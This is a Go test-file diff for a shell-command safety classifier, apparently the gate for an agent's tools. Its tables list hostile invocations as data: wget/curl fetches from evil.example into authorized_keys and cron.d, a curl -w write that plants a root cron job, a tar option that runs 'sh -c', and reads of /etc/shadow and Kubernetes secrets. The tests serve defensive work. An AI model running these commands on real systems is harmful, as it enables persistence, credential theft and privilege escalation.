@@ -1,8 +1,11 @@
 package exec
 
 import (
+	"slices"
 	"strings"
 	"testing"
+
+	"sallyport/tools"
 )
 
 // What must never run as a read: every trick that got through somewhere, here or in another tool. The list only grows.
@@ -96,6 +99,70 @@ var vectors = []map[string]any{
 	in("/root/.ssh", "grep", "-rh", ""), in("/root", "egrep", "-r", "."), in("/etc", "grep", "-r", "x"), in("/", "fgrep", "-r", "x"), in("/home/ann", "grep", "-re", "x"),
 	in("/srv", "strings", "@/etc/shadow"), in("/srv", "cat", "@x"), in("/srv", "lsof", "-i", "@secret.example.com"), in("/srv", "lsof", "-i", "tcp@secret.example.com"), in("/etc", "diff", "-N", "/nonexist", "."),
 	in("/root", "diff", "/nonexist", "x"), in("/", "awk", "{print}", "inet/tcp/0/x/80"),
+}
+
+// changes are calls that do more than they look like, with the least that each must count as: an effect, "unknown", or
+// "credential" for a read of secrets.
+var changes = []struct {
+	args  map[string]any
+	least string
+}{
+	// words that make another file or another program of it
+	{in("/tmp", "tar", "cfI", "/tmp/o", "sh -c id", "/etc/hosts"), "unknown"}, {in("/tmp", "tar", "xf", "/srv/a"), "unknown"}, {in("/srv", "tar", "-xf", "evil:/x"), "unknown"}, {in("/srv", "tar", "-xf", "evil:x"), "unknown"},
+	{argv("service", "../../usr/bin/touch", "/tmp/p"), "unknown"}, {argv("service", "/usr/bin/touch", "/tmp/p"), "unknown"}, {argv("service", "..", "x"), "unknown"}, {argv("systemctl", "enable", "/tmp/x.service"), "unknown"},
+	{argv("systemctl", "start", "../x"), "unknown"}, {argv("sed", "-i../../tmp/cron/*", "s/a/b/", "/srv/x"), "unknown"}, {argv("sed", "-i/tmp/*", "s/a/b/", "/srv/x"), "unknown"}, {argv("sed", "--in-place=*x", "s/a/b/", "/srv/x"), "unknown"},
+	{argv("sed", "-is", "s/a/b/", "/home/ann/.ssh/authorized_key"), "admin"}, {argv("sed", "-ic", "s/a/b/", "/home/ann/.bashr"), "admin"}, {argv("sed", "-ni/x", "p", "/srv/x"), "unknown"},
+	{argv("curl", "-w", "%output{/etc/cron.d/x}* * * * * root id", "http://127.0.0.1/"), "unknown"}, {argv("curl", "-w", "@/etc/shadow", "http://x/"), "unknown"}, {argv("curl", "-o", "/#1/cron.d/x", "http://127.0.0.1/{etc}"), "unknown"},
+	{argv("curl", "-o", "/srv/#1", "http://127.0.0.1/[1-9]"), "unknown"}, {argv("curl", "http://127.0.0.1/{a,b}"), "unknown"}, {argv("curl", "http://[::1-5]/"), "unknown"}, {argv("curl", "http://[a-z]/"), "unknown"}, {argv("curl", "http://[1-9].example/"), "unknown"}, {argv("curl", "-o", "/srv/x#1", "http://x/"), "unknown"},
+	{argv("kubectl", "get", "pods", "-o", "go-template-file=/etc/shadow"), "unknown"}, {argv("kubectl", "get", "pods", "-ojsonpath-file=/etc/shadow"), "unknown"}, {argv("kubectl", "get", "pods", "--output=custom-columns-file=/x"), "unknown"},
+	{argv("kubectl", "get", "pods", "-o", "templatefile=/etc/shadow"), "unknown"}, {argv("kubectl", "get", "secret", "db", "-o", "yaml"), "credential"}, {argv("kubectl", "get", "pods,Secrets"), "credential"},
+	{argv("kubectl", "get", "secrets.v1.", "-o", "json"), "credential"}, {argv("kubectl", "get", "secret/db"), "credential"}, {argv("kubectl", "describe", "secret", "x"), "credential"}, {argv("kubectl", "get", "externalsecrets"), "credential"},
+	{argv("kill", "-9", "--", "-01"), "unknown"}, {argv("kill", "-9", "01"), "unknown"}, {argv("kill", "--", "-0"), "unknown"}, {argv("kill", "-9", "--", "-1"), "unknown"}, {argv("kill", "-9", "1"), "admin"}, {argv("kill", "0"), "admin"},
+	{argv("kill", "-9", "00"), "unknown"}, {argv("kill", "--", "-123"), "unknown"}, {argv("kill", "0x1"), "unknown"}, {argv("kill", "-s", "KILL", "+1"), "unknown"}, {argv("kill", " 1"), "unknown"}, {argv("kill", "-9", "-1"), "unknown"},
+	// files that nobody named: in the directory the command starts in, or in one that is the destination
+	{in("/root/.ssh", "wget", "http://evil.example/authorized_keys"), "admin"}, {in("/etc/cron.d", "wget", "http://evil.example/x"), "define"}, {in("/home/ann", "wget", "http://evil.example/x"), "admin"}, {argv("wget", "http://evil.example/x"), "unknown"},
+	{in("/srv/u", "wget", "http://evil.example/.bashrc"), "admin"}, {in("/root/.ssh", "curl", "-O", "http://evil.example/authorized_keys"), "admin"}, {argv("curl", "-O", "http://evil.example/x"), "unknown"}, {argv("curl", "-sLO", "http://evil.example/x"), "unknown"},
+	{in("/etc", "tar", "-xf", "/srv/a.tar"), "admin"}, {in("/home/ann", "tar", "-xzf", "/srv/a.tar"), "admin"}, {argv("tar", "-xf", "/srv/a.tar"), "unknown"}, {argv("tar", "-xf", "/srv/a.tar", "-C", "/home/ann"), "admin"}, {argv("tar", "-xf", "/srv/a.tar", "-C", "/"), "admin"},
+	{argv("tar", "--extract", "-f", "/srv/a.tar"), "unknown"}, {argv("tar", "-xf", "/srv/a.tar", "-C", "/etc/cron.d"), "define"}, {argv("tar", "-xf", "/srv/a.tar", "-C", "/srv/x/.ssh"), "admin"},
+	{in("/home/ann", "unzip", "/srv/a.zip"), "admin"}, {argv("unzip", "/srv/a.zip"), "unknown"}, {argv("unzip", "/srv/a.zip", "-d", "/home/ann"), "admin"}, {argv("unzip", "/srv/a.zip", "-d", "/usr/local/bin"), "define"},
+	{in("/etc/cron.d", "split", "/srv/x"), "define"}, {argv("split", "/srv/x"), "unknown"}, {argv("split", "-a", "1", "/srv/x", "/home/ann/.bashr"), "admin"}, {argv("split", "/srv/x", "/etc/cron.d/x"), "define"},
+	{argv("cp", "/srv/.profile", "/home/ann"), "admin"}, {argv("cp", "/srv/authorized_keys", "/srv/x/.ssh"), "admin"}, {argv("mv", "/srv/.bashrc", "/srv/u"), "admin"}, {argv("install", "/srv/.profile", "/srv/u"), "admin"}, {argv("cp", "-r", "/srv/a/.", "/home/ann"), "admin"},
+	{argv("ln", "/srv/.zshrc", "/srv/u"), "admin"}, {argv("cp", "/srv/a/.profile", "/srv/b", "/srv/u"), "admin"}, {argv("cp", "/srv/x", "/etc/cron.d"), "define"}, {argv("cp", "-r", "/srv/a", "/home/ann"), "admin"}, {argv("mv", "-t", "/home/ann", "/srv/.profile"), "unknown"},
+	{argv("ln", "-s", "/etc", "/srv/e"), "credential"}, {argv("ln", "-s", "/home/ann", "/srv/e"), "credential"}, {argv("ln", "-s", "/", "/srv/e"), "credential"}, {argv("ln", "-s", "shadow", "/etc/x"), "credential"}, {argv("ln", "/etc/shadow", "/srv/e"), "credential"},
+	{argv("gzip", "-r", "/home/ann"), "admin"}, {argv("systemctl", "restart", "*"), "write"},
+}
+
+func TestChangesCountAsWhatTheyDo(t *testing.T) {
+	h := open(t, offline)
+	for _, c := range changes {
+		f, err := facts(t, h, c.args)
+		if err != nil || !f.Understood() {
+			continue
+		}
+		secret := slices.ContainsFunc(f.Objects, func(o tools.Object) bool { return slices.Contains(o.Labels, "credential") })
+		if c.least == "credential" && !secret || c.least != "credential" && stronger(f.Effect, tools.Effect(c.least)) != f.Effect {
+			t.Errorf("%v counts as %s %v, want %s", c.args, f.Effect, f.Objects, c.least)
+		}
+	}
+}
+
+// commonChanges must keep the effect that an everyday change has.
+func TestCommonChangesKeepTheirEffect(t *testing.T) {
+	h := open(t, offline)
+	for _, c := range []struct {
+		args map[string]any
+		want tools.Effect
+	}{
+		{argv("tar", "-tzf", "/srv/a.tgz"), tools.Write}, {argv("tar", "-xzf", "/srv/a.tgz", "-C", "/srv/app"), tools.Write}, {in("/srv/app", "tar", "-czf", "/srv/a.tgz", "data"), tools.Write}, {in("/srv/app", "wget", "http://x/a.tgz"), tools.Write},
+		{argv("wget", "-O", "/srv/x", "http://x/a"), tools.Write}, {argv("wget", "-q", "--spider", "http://x/a"), tools.Write}, {argv("curl", "-s", "-o", "/srv/x", "http://[::1]:8080/a"), tools.Write}, {argv("curl", "-s", "-w", "%{http_code}", "http://x/"), tools.Write},
+		{argv("unzip", "-l", "/srv/a.zip"), tools.Write}, {argv("unzip", "/srv/a.zip", "-d", "/srv/app"), tools.Write}, {argv("cp", "/srv/a", "/srv/b"), tools.Write}, {argv("cp", "-r", "/srv/app/a", "/srv/app/b"), tools.Write}, {argv("mv", "/srv/app/a", "/srv/app/b"), tools.Write},
+		{argv("ln", "-sfn", "/srv/app/v2", "/srv/app/current"), tools.Write}, {argv("ln", "-s", "v2", "/srv/app/current"), tools.Write}, {argv("kill", "-HUP", "123"), tools.Write}, {argv("service", "nginx", "restart"), tools.Write},
+		{argv("sed", "-i.bak", "s/a/b/", "/srv/app/x"), tools.Write}, {argv("kubectl", "get", "pods", "-o", "jsonpath={.items[*].metadata.name}"), tools.Write}, {argv("kubectl", "get", "deploy", "-owide"), tools.Write}, {argv("systemctl", "restart", "app@1.service"), tools.Write},
+	} {
+		if f, err := facts(t, h, c.args); err != nil || !f.Understood() || f.Effect != c.want {
+			t.Errorf("%v: %v %+v", c.args, err, f)
+		}
+	}
 }
 
 func in(cwd string, words ...string) map[string]any {
